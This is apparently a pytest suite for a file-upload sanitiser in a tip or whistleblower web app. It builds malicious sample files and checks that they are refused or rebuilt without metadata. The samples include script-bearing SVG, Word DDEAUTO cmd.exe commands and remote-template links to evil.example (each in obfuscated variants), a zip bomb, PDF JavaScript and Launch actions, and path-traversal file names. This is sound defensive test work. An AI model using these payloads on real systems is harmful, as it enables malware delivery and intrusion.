"""Whatever a stranger sends: it is made anew without what runs, hides or tells of place and maker, or refused in a sentence."""

import io
import struct
import wave
import zipfile

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import resolve, reverse
from PIL import Image

from grids.access.doors import file_limit, file_permissions
from grids.conduct.events import new_id
from grids.conduct.refusals import Refusal
from grids.files import preparing
from grids.files.cleaning.recognised import cleaned
from grids.files.cleaning.told import NotTakenError
from grids.files.kinds import FORMS, NOT_TAKEN, name_of
from grids.files.preparing import prepare
from tests.factories.files import LIMITS, MAKER, a_docx, a_jpeg, a_pdf, a_png

SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
PAGE = b"<!doctype html><script>alert(1)</script>"
RELS = "word/_rels/document.xml.rels"
OUTSIDE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    'Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
)
DDE = (
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r>'
    "<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText></w:r></w:p></w:body></w:document>"
)
# the same, written otherwise: whoever opens the document reads it alike
PREFIXED = OUTSIDE.replace("<Rel", "<p:Rel").replace("</Rel", "</p:Rel").replace("xmlns=", "xmlns:p=")
SPELT = OUTSIDE.replace('"External"', '"&#69;xternal"')
PARTED = OUTSIDE.replace('"r9"', '"r>9"')
DDE_SPELT = DDE.replace("DDEAUTO", "&#68;DEAUTO")
DDE_SMALL = DDE.replace("DDEAUTO", "ddeauto")
DDE_QUOTED = DDE.replace("<w:instrText>", "<w:fldSimple w:instr='").replace(
    "cmd.exe</w:instrText>", "cmd.exe'/>"
)
TYPES = '<!DOCTYPE a [<!ENTITY b "c">]><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'


def a_bomb() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("[Content_Types].xml", "<Types/>")
        packed.writestr("word/document.xml", b"<a>" + b" " * (101 << 20))
    return made.getvalue()


def a_box(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I4s", 8 + len(content), kind) + content


def an_m4a(*, handler: bytes = b"soun") -> bytes:
    """A recording as a phone makes it, which says where."""
    place = a_box(b"udta", a_box(b"\xa9xyz", b"\0\x12\x15\xc7+25.0301+102.7201/"))
    header = a_box(b"mdhd", struct.pack(">IIIIIHH", 0, 0, 0, 1000, 5000, 0, 0))
    track = a_box(b"trak", a_box(b"mdia", header + a_box(b"hdlr", bytes(8) + handler + bytes(12))))
    moov = a_box(
        b"moov", a_box(b"mvhd", struct.pack(">IIIII", 0, 0, 0, 1000, 5000) + bytes(80)) + track + place
    )
    return (
        a_box(b"ftyp", b"M4A \0\0\0\0M4A ")
        + moov
        + a_box(b"mdat", bytes(64))
        + a_box(b"free", SVG)
        + a_box(b"uuid", b"x" * 20)
    )


def a_wav() -> bytes:
    made = io.BytesIO()
    with wave.open(made, "wb") as sound:
        sound.setnchannels(1)
        sound.setsampwidth(2)
        sound.setframerate(8000)
        sound.writeframes(bytes(32000))
    return made.getvalue() + b"LIST" + struct.pack("<I", 8) + MAKER.encode()[:8]


MP3_FRAME = b"\xff\xfb\x90\x00" + bytes(413)
MP3 = b"ID3\x03\0\0\0\0\0\x0a" + MAKER.encode() + MP3_FRAME * 60 + b"TAG" + bytes(125)
AMR = b"#!AMR\n" + (b"\x3c" + bytes(31)) * 100 + b"\xff" + SVG

REFUSED = {
    "empty": b"", "SVG with script": SVG, "a page": PAGE, "a page with a mark": b"\xef\xbb\xbf\n" + PAGE, "text": b"hello",
    "a program": b"MZ" + bytes(80), "an old Word": b"\xd0\xcf\x11\xe0" + bytes(80), "HEIC": b"\0\0\0\x18ftypheic" + bytes(20),
    "half a JPEG": a_jpeg(900, 900)[:3000], "10,000 x 10,000": a_png(10_000, 10_000), "a JPEG that is a page": b"\xff\xd8\xff" + PAGE,
    "a PDF behind a page": PAGE + a_pdf(), "a locked PDF": a_pdf(password="1234"), "half a PDF": a_pdf()[:60],
    "an archive": a_docx(**{"word/document.xml": "<a/>"})[:200], "a bomb": a_bomb(),
    "macros": a_docx(**{"word/vbaProject.bin": b"x"}), "an embedded file": a_docx(**{"word/embeddings/a.xlsx": b"x"}),
    "a template from outside": a_docx(**{RELS: OUTSIDE}), "DDE": a_docx(**{"word/document.xml": DDE}),
    "a template, prefixed": a_docx(**{RELS: PREFIXED}), "a template, spelt": a_docx(**{RELS: SPELT}),
    "a template, parted": a_docx(**{RELS: PARTED}), "a template, without a mark": a_docx(**{RELS: OUTSIDE.encode("utf-16-le")}),
    "DDE, spelt": a_docx(**{"word/document.xml": DDE_SPELT}), "DDE, small": a_docx(**{"word/document.xml": DDE_SMALL}),
    "DDE, quoted": a_docx(**{"word/document.xml": DDE_QUOTED}), "DDE under another name": a_docx(**{"word/a.dat": DDE}),
    "entities": a_docx(**{"[Content_Types].xml": TYPES}), "UTF-16": a_docx(**{"word/a.xml": "<a/>".encode("utf-16")}),
    "a video": an_m4a(handler=b"vide"), "a broken recording": b"ID3" + bytes(200), "no sound": b"RIFF\0\0\0\0WAVE",
}  # fmt: skip
TAKEN = {
    "jpeg": a_jpeg(), "jpeg with an archive": a_jpeg() + a_docx(), "png": a_png(40, 30), "pdf": a_pdf(), "pdf that acts": a_pdf(acts=True),
    "docx": a_docx(), "mp3": MP3, "m4a": an_m4a(), "wav": a_wav(), "amr": AMR,
}  # fmt: skip


@pytest.mark.parametrize("what", REFUSED)
def test_what_is_not_taken_is_refused_in_a_sentence(what):
    with pytest.raises(NotTakenError) as refused:
        cleaned(REFUSED[what], LIMITS)
    assert str(NOT_TAKEN[refused.value.code]) % refused.value.given


def everything_in(data: bytes) -> bytes:
    """A file's bytes, and of what is packed in it, unpacked."""
    found = [data]
    if data.startswith(b"PK"):
        with zipfile.ZipFile(io.BytesIO(data)) as packed:
            found += [packed.read(name) for name in packed.namelist()]
    if data.startswith(b"%PDF"):
        with pikepdf.open(io.BytesIO(data)) as pdf:
            found += [one.read_bytes() for one in pdf.objects if isinstance(one, pikepdf.Stream)]
            found += [str(dict(one)).encode() for one in pdf.objects if isinstance(one, pikepdf.Dictionary)]
    return b"\n".join(found)


@pytest.mark.parametrize("what", TAKEN)
def test_what_is_taken_tells_nothing_of_place_and_maker_and_runs_nothing(what):
    made = cleaned(TAKEN[what], LIMITS)
    inside = everything_in(made.content)
    for trace in (
        MAKER.encode(),
        b"25.0301",
        b"JavaScript",
        b"alert",
        b"MZ-program",
        b"run.exe",
        b"<svg",
        b"GPS",
    ):
        assert trace not in inside, trace
    assert made.form in what
    # made anew once more it is what it is
    assert cleaned(made.content, LIMITS).form == made.form
    assert bool(made.small) == (FORMS[made.form].kind == "photo")
    if what.startswith("jpeg"):
        assert b"PK\x03\x04" not in made.content
        assert (made.width, made.height) == (240, 320)
        assert not Image.open(io.BytesIO(made.content)).getexif()
        assert "place" in made.dropped


NAMES = {
    "../../etc/passwd": "passwd.jpg", "C:\\fakepath\\现场.JPG": "现场.jpg", "a\u202egpj.exe": "agpj.jpg", "": "照片.jpg", ".htaccess": "htaccess.jpg",
    "x" * 300 + ".jpeg": "x" * 80 + ".jpg", 'a"><script>.jpg': "ascript.jpg", "a\0\n.jpg": "a.jpg",
}  # fmt: skip


def test_a_name_holds_no_path_and_nothing_unseen_and_ends_as_the_file_is():
    assert {given: name_of(given, FORMS["jpeg"]) for given in NAMES} == NAMES


def test_the_process_that_reads_ends_within_its_limits_and_says_a_sentence(settings, monkeypatch):
    made = prepare(SimpleUploadedFile("a.jpg", a_jpeg()))
    assert (made.form.code, made.name, len(made.sha256)) == ("jpeg", "a.jpg", 32)
    settings.ATTACHMENT_MAX_MEGAPIXELS = 100
    monkeypatch.setattr(preparing, "MEMORY", 400 << 20)
    for limit, data in ((25 << 20, a_png(9_000, 9_000)), (100, a_jpeg())):
        settings.ATTACHMENT_MAX_BYTES = limit
        with pytest.raises(Refusal, match="没有添加") as refused:
            prepare(SimpleUploadedFile("a.png", data))
        assert refused.value.field == "file"


def test_every_page_of_a_step_that_asks_for_a_file_takes_one_within_its_limit():
    for page in ("whistle_take", "lead_take"):
        view = resolve(reverse(page, args=[new_id(), "attach"])).func
        assert file_permissions(view), page
        assert file_limit(view) == "ATTACHMENT_MAX_BYTES", page


def a_pdf_with(*notes: pikepdf.Dictionary) -> bytes:
    """A page on whose own lines everything stands: nothing of it has a number of its own."""
    pdf, made = pikepdf.new(), io.BytesIO()
    pdf.add_blank_page()
    pdf.pages[0].obj["/Annots"] = pikepdf.Array(notes)
    pdf.save(made)
    return made.getvalue()


def a_link(**action) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=pikepdf.Dictionary(**action)
    )


def test_nothing_of_a_pdf_acts_wherever_it_is_written():
    act = {"S": pikepdf.Name.JavaScript, "JS": "app.alert(7)"}
    moved = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Link,
        Rect=[0, 0, 9, 9],
        AA=pikepdf.Dictionary(E=a_link(**act).A),
    )
    for note in (
        a_link(**act), a_link(S=pikepdf.Name.Launch, F="alert(7)"), a_link(S=pikepdf.Name.URI, URI="javascript:alert(7)"),
        a_link(S=pikepdf.Name.URI, URI="file:///alert(7)"), moved,
    ):  # fmt: skip
        made = cleaned(a_pdf_with(note), LIMITS)
        assert b"alert(7)" not in made.content
        assert made.dropped == {"acts"}
    made = cleaned(a_pdf_with(a_link(S=pikepdf.Name.URI, URI="https://www.km.gov.cn/")), LIMITS)
    assert b"https://www.km.gov.cn/" in made.content
    assert not made.dropped


def test_what_was_filled_into_a_form_is_there_and_a_layer_that_was_not_seen_is_not():
    pdf, given = pikepdf.new(), io.BytesIO()
    pdf.add_blank_page()
    field = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Tx, T="name", V="filled", Rect=[0, 0, 90, 20]
    )  # fmt: skip
    layer = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.OCG, Name="drafts"))
    pdf.pages[0].obj["/Annots"] = pikepdf.Array([pdf.make_indirect(field)])
    pdf.Root.AcroForm = pikepdf.Dictionary(
        Fields=pdf.pages[0].obj["/Annots"], XFA="xfa-runs", NeedAppearances=True
    )
    pdf.Root.OCProperties = pikepdf.Dictionary(OCGs=[layer], D=pikepdf.Dictionary(OFF=[layer]))
    pdf.pages[0].obj["/Resources"] = pikepdf.Dictionary(Properties=pikepdf.Dictionary(L=layer))
    pdf.save(given)
    made = cleaned(given.getvalue(), LIMITS)
    assert b"xfa-runs" not in made.content
    with pikepdf.open(io.BytesIO(made.content)) as seen:
        assert [str(one.V) for one in seen.Root.AcroForm.Fields] == ["filled"]
        assert [str(one.Name) for one in seen.Root.OCProperties.D.OFF] == ["drafts"]


TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


@pytest.mark.parametrize(
    ("name", "part"),
    [
        (RELS, f'<r:Relationships xmlns:r="{PACKAGE}"><r:Relationship Id="a" Type="{TEMPLATE}" Target="http://a.example/"/></r:Relationships>'),
        (RELS, f'<Relationships xmlns="{PACKAGE}"><Relationship Type="x" Target="http://a.example/" TargetMode="Ext&#101;rnal"/></Relationships>'),
        (RELS, f'<Relationships xmlns="{PACKAGE}"><Relationship Id="a>" Type="x" Target="http://a.example/" TargetMode="External"/></Relationships>'),
        ("word/document.xml", f'<q:p xmlns:q="{WORD}"><q:instrText>ddeauto cmd</q:instrText></q:p>'),
        ("word/document.xml", f'<w:p xmlns:w="{WORD}"><w:instrText>D&#68;</w:instrText><w:instrText>E cmd</w:instrText></w:p>'),
    ],
)  # fmt: skip
def test_a_document_is_read_as_a_program_reads_it(name, part):
    with pytest.raises(NotTakenError) as refused:
        cleaned(a_docx(**{name: part}), LIMITS)
    assert refused.value.code == "word_from_outside"


def test_nothing_says_who_wrote_a_document_by_whatever_program():
    note = (
        f"<w:comments xmlns:w='{WORD}'><w:comment w:author='{MAKER}' w:initials = \"{MAKER}\"/></w:comments>"
    )
    link = f'<w:p xmlns:w="{WORD}"><w:instrText>HYPERLINK "http://a.example/link"</w:instrText></w:p>'
    given = a_docx(**{
        "word/comments.xml": note, "word/comments2.xml": note.replace("w:", "ns0:").replace("xmlns:w", "xmlns:ns0"),
        "package/services/metadata/core-properties/1.psmdcp": MAKER, "word/document2.xml": link,
        "docMetadata/LabelInfo.xml": MAKER,
    })  # fmt: skip
    with zipfile.ZipFile(io.BytesIO(cleaned(given, LIMITS).content)) as made:
        assert [name for name in made.namelist() if MAKER.encode() in made.read(name)] == []


def test_a_scan_of_sixteen_bits_is_no_white_page():
    given = io.BytesIO()
    scan = Image.new("I;16", (4, 1))
    for at, level in enumerate((0, 20_000, 40_000, 65_535)):
        scan.putpixel((at, 0), level)
    scan.save(given, "PNG")
    with Image.open(io.BytesIO(cleaned(given.getvalue(), LIMITS).content)) as made:
        assert [made.getpixel((at, 0))[0] for at in range(4)] == [0, 77, 155, 255]


def test_a_recording_says_not_when_and_hides_nothing_and_a_large_cover_is_no_fault():
    given = bytearray(an_m4a()) + a_box(b"free", MAKER.encode())
    at = given.find(b"mvhd") + 8
    given[at : at + 4] = b"\xe0\x55\x01\x02"
    made = cleaned(bytes(given), LIMITS)
    assert b"\xe0\x55\x01\x02" not in made.content
    assert MAKER.encode() not in made.content
    cover = b"ID3\x03\0\0\0\x07\x00\x00" + bytes(7 << 14)
    assert cleaned(cover + MP3_FRAME * 60, LIMITS).content == MP3_FRAME * 60
    with pytest.raises(NotTakenError):
        cleaned(b"#!AMR_MC1.0\n" + bytes(900), LIMITS)
